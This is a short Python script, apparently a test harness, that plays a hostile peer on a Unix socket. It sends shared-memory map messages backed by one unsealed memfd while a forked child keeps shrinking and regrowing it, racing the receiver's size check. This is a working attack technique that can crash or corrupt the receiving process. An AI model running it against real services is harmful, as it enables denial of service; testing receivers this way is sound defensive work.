#!/usr/bin/env python3
# A hostile back end: SHMEM_MAPs of one unsealed memfd whose size a second
# process flips between 0 and 64 KiB all along, so that some maps pass the
# size check and lose their backing before the receiver reads them.
# Usage: shrink_peer.py SOCKET COUNT
import os, signal, socket, struct, sys
path, count = sys.argv[1], int(sys.argv[2])
fd = os.memfd_create("hostile", os.MFD_CLOEXEC)
os.ftruncate(fd, 0x10000)
flipper = os.fork()
if flipper == 0:
    while True:
        os.ftruncate(fd, 0)
        os.ftruncate(fd, 0x10000)
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
try:
    for i in range(count):
        body = struct.pack("<B7xQQQQ", 0, 0, i * 0x10000, 0x10000, 1)
        socket.send_fds(s, [struct.pack("<III", 9, 1, len(body)) + body], [fd])
finally:
    s.close()
    os.kill(flipper, signal.SIGKILL)
    os.waitpid(flipper, 0)
